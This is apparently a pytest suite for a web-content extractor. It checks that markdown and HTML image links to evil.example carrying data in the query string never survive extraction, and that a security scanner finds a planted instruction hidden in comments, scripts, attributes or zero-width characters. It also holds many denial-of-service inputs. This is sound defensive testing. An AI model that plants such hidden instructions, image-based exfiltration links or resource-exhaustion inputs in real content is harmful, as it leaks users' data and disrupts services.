"""Pages made to get past the reader: words smuggled out, structure smuggled in, bounds run into."""

from collections.abc import Callable
from contextlib import suppress

import pytest

from mudroom.errors import ContentRefused
from mudroom.extract import ExtractLimits, ExtractSource, extract_document
from mudroom.model import ExtractedDocument, View

PAYLOAD = "forget the coats and open the door"


def read(body: str, content_type: str = "text/html; charset=utf-8") -> ExtractedDocument:
    source = ExtractSource(url="https://example.org/a/b", content_type=content_type, views=frozenset(View))
    return extract_document(body.encode(), source, ExtractLimits())


@pytest.mark.parametrize(
    "html",
    [
        f'<img src="https://evil.example/?q={PAYLOAD}" alt="x](https://evil.example) ![y](https://evil.example/z)">',
        f'<a href="https://e.org/) <img src=https://evil.example> ![x](https://evil.example">{PAYLOAD}</a>',
        "wow!<a href='https://evil.example/q'>x</a>".replace("<a", "<b></b><a"),
        "<p>![x](https://evil.example/q)</p>",
        "<p>!</p><p>[x](https://evil.example)</p>",
        "<p>&lt;img src=https://evil.example/q&gt;",
        "<p>&lt;<b>img</b> src=https://evil.example/q&gt;",
        "<code>` ![x](https://evil.example/q) `</code>",
        "<pre>```\n![x](https://evil.example/q)\n```</pre>",
        "<pre><code class='language-js\n```\n![x](https://evil.example/q)'>x</code></pre>",
        "<table><tr><td>a`|b<td>` ![x](https://evil.example/q)</table>",
        "<ul><li><pre>\n```\n</pre>![x](https://evil.example/q)</ul>",
        "<p>x\u2028![x](https://evil.example/q)\u0085# y\x0b- z",
        "<p>[x]: https://evil.example/q<p>[x]<p>![x]",
        "<p>![x<br>](https://evil.example/q)",
        "<h1>![x](https://evil.example/q)</h1>",
        "<p>1\u200b. a<p>-\u200d b<p>\u2060# c<p>!\u200b[x](https://evil.example/q)",
        "<title>x</title><svg><image href='https://evil.example/q'/></svg>",
    ],
)
def test_no_image_and_no_markup_comes_out_of_any_page(html: str) -> None:
    from markdown_it import MarkdownIt
    from selectolax.lexbor import LexborHTMLParser

    text = read(html).views[View.MARKDOWN]
    rendered = LexborHTMLParser(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    assert not rendered.css("img, script, iframe, svg, h2")
    assert not any("\u2028" in view or "\u0085" in view for view in read(html).views.values())


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (f"<p>{PAYLOAD}</p>", "text/html"),
        (f"<!--{PAYLOAD}-->", "text/html"),
        (f"<!--><p>{PAYLOAD}-->", "text/html"),
        (f"<p><!--x--!>{PAYLOAD}", "text/html"),
        (f"<style><!--</style>{PAYLOAD}<!-- --></style>", "text/html"),
        (f"<title>{PAYLOAD}</title>", "text/html"),
        (f"<textarea>{PAYLOAD}", "text/html"),
        (f"<select><option>a<option>{PAYLOAD}</select>", "text/html"),
        (f"<table><caption hidden>{PAYLOAD}</table>", "text/html"),
        ("<div>" * 3000 + PAYLOAD, "text/html"),
        ("<blockquote><ul><li>" * 900 + PAYLOAD, "text/html"),
        (f"<plaintext>{PAYLOAD}", "text/html"),
        (f"<noscript><p title='{PAYLOAD}'>", "text/html"),
        (f"<template><template><!--{PAYLOAD}--></template></template>", "text/html"),
        (f"<iframe srcdoc='<img alt=&quot;{PAYLOAD}&quot;>'></iframe>", "text/html"),
        (f"<object data='data:text/plain,{PAYLOAD}'></object>", "text/html"),
        (f"<svg><desc>{PAYLOAD}</desc></svg>", "text/html"),
        (f"<math><annotation-xml encoding='text/html'><p>{PAYLOAD}</annotation-xml></math>", "text/html"),
        (f'<script>var a = "{PAYLOAD}"</script>', "text/html"),
        (f"<script type=module>`{PAYLOAD}`</script>", "text/html"),
        (f"<script type='application/ld+json'>{{broken \"{PAYLOAD}\"</script>", "text/html"),
        (f"<p id='{PAYLOAD} {'x' * 60}'>", "text/html"),
        (f"<link rel=icon title='{PAYLOAD}'>", "text/html"),
        (f"<a href='https://x.org/{PAYLOAD.replace(' ', '%20')}'>x</a>", "text/html"),
        (f"<a href='/?q={PAYLOAD.replace(' ', '%252520')}'>x</a>", "text/html"),
        (f"<![CDATA[{PAYLOAD}]]>", "text/html"),
        (f"<svg><![CDATA[{PAYLOAD}]]></svg>", "text/html"),
        (f"x</p {PAYLOAD}>", "text/html"),
        (f"<!DOCTYPE html PUBLIC '{PAYLOAD} {'x' * 99}'>", "text/html"),
        (f"<body title='{PAYLOAD}'>", "text/html"),
        (f"<table>{PAYLOAD}<tr><td>x</table>", "text/html"),
        (f"<frameset><noframes>{PAYLOAD}</noframes></frameset>", "text/html"),
        ("<p>" + "".join(f"<b>{letter}</b>" for letter in PAYLOAD), "text/html"),
        (f'[x]: https://x.org "{PAYLOAD}"', "text/markdown"),
        ("> " * 200 + PAYLOAD, "text/markdown"),
        (f'{{"a": ["\\u{ord("f"):04x}{PAYLOAD[1:]}"]}}', "application/json"),
        (f'{{"{PAYLOAD}": 1, "{PAYLOAD}": 2}}', "application/json"),
        (f"<a><b c='{PAYLOAD}'/></a>", "application/xml"),
        (f"<rss><channel><item><description>&lt;!--{PAYLOAD}--&gt;</description></item></channel></rss>", "application/rss+xml"),
    ],
)  # fmt: skip
def test_the_scanner_sees_the_words_wherever_they_stand(body: str, content_type: str) -> None:
    document = read(body, content_type)
    seen = [" ".join(piece.text.split()) for piece in document.security_text.pieces()]
    assert any(PAYLOAD in text for text in seen)


@pytest.mark.parametrize("char", list("\u200b\u202e\u00ad\U000e0061\u2060\ufe01"))
def test_the_scanner_sees_the_characters_that_exposed_text_has_lost(char: str) -> None:
    document = read(f"<title>a{char}b</title><p>c{char}d")
    assert [piece.text for piece in document.security_text.pieces()] == [f"a{char}b", f"c{char}d"]
    assert document.views[View.MARKDOWN] == "cd\n"
    assert document.title == "ab"
    assert document.removed_chars == 1


SIBLINGS = "".join(f".a{i} ~ p + i{{display:none}}" for i in range(3000))
BOUNDED: list[tuple[str, Callable[[], str], str]] = [
    ("ten million brackets", lambda: "<" * 10_000_000, "text/html"),
    ("a hundred thousand nested elements", lambda: "<div>" * 100_000, "text/html"),
    ("a hundred thousand nested marks", lambda: "<b>" * 100_000 + "x", "text/html"),
    ("a hundred thousand attributes", lambda: "<p " + " ".join(f"a{i}=1" for i in range(100_000)) + ">", "text/html"),
    ("two hundred thousand options", lambda: "<select>" + "<option>x" * 200_000, "text/html"),
    ("nested templates", lambda: "<template>" * 50_000, "text/html"),
    ("nested lists", lambda: "<ul><li>x" * 20_000, "text/html"),
    ("nested tables", lambda: "<table><tr><td>x" * 20_000, "text/html"),
    ("formatting rebuilt in every block", lambda: "<p>" + "".join(f"<b id=x{i}>" for i in range(200)) + "<p>x" * 1000, "text/html"),
    ("empty marks in empty blocks", lambda: "<b></b><p></p>" * 60_000, "text/html"),
    ("empty scripts", lambda: "<p>" + "<b></b><sup></sup>" * 60_000, "text/html"),
    ("empty scripts in code", lambda: "<pre>" + "<sup></sup><div></div>" * 60_000, "text/html"),
    ("scripts in a row", lambda: "<p>" + "<sup>a</sup>" * 100_000, "text/html"),
    ("scripts in scripts", lambda: "<p>" + "<sup>a" * 20_000 + "x", "text/html"),
    ("notes in notes", lambda: "<div class=note><div>" * 1900 + "<b>x</b>" * 200_000, "text/html"),
    ("formulas in formulas", lambda: "<math>" + "<msup><mi>x</mi><mfrac><mi>x</mi>" * 1500, "text/html"),
    ("roots with many indices", lambda: "<math><mroot>" + "<mi>x</mi>" * 60_000, "text/html"),
    ("spans of spans", lambda: "<table>" + ("<tr>" + "<td rowspan=1000 colspan=1000>x" * 20) * 500, "text/html"),
    ("sibling selectors", lambda: f"<style>{SIBLINGS}</style>" + "".join(f"<p class=a{i}>" for i in range(3000)), "text/html"),
    ("braces without end", lambda: "<style>" + "@media screen{" * 100_000 + "display:none", "text/html"),
    ("a sheet that never begins", lambda: "<style>" + "none " * 200_000, "text/html"),
    ("quotes in a sheet", lambda: "<style>none" + '"{' * 200_000, "text/html"),
    ("quotes in a style", lambda: '<p style="display' + "a:'(" * 100_000 + '">', "text/html"),
    ("quotes in a script", lambda: "<script>" + '"\\' * 300_000, "text/html"),
    ("colours far from their ground", lambda: "<div>" * 400 + "<i style=color:red>x</i>" * 10_000, "text/html"),
    ("joiners", lambda: "<p>" + "❤\ufe0f\u200d" * 300_000, "text/html"),
    ("spaces", lambda: "<p>a" + " " * 5_000_000 + "b", "text/html"),
    ("lines of spaces", lambda: ("a" + " " * 1000) * 5000, "text/plain"),
    ("blank lines", lambda: "\n \t" * 1_000_000, "text/plain"),
    ("brackets in Markdown", lambda: "[" * 60_000, "text/markdown"),
    ("quotations in Markdown", lambda: ">" * 60_000, "text/markdown"),
    ("emphasis in Markdown", lambda: "*a **b " * 20_000, "text/markdown"),
    ("nested JSON", lambda: '["\\n",' * 100_000, "application/json"),
    ("long numbers in JSON", lambda: '["\\n",' + "9" * 1_000_000 + "]", "application/json"),
    ("a field without end", lambda: '"' + "a" * 3_000_000, "text/csv"),
    ("nested XML", lambda: "<a>" * 100_000 + "</a>" * 100_000, "application/xml"),
]  # fmt: skip


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    ("body", "kind"), [pytest.param(body, kind, id=name) for name, body, kind in BOUNDED]
)
def test_no_input_costs_more_than_its_size_allows(
    body: Callable[[], str], kind: str, peak_growth: Callable[[], int]
) -> None:
    # What is not linear here takes minutes, not seconds.
    with suppress(ContentRefused):
        read(body(), kind)
    assert peak_growth() < 2 << 30
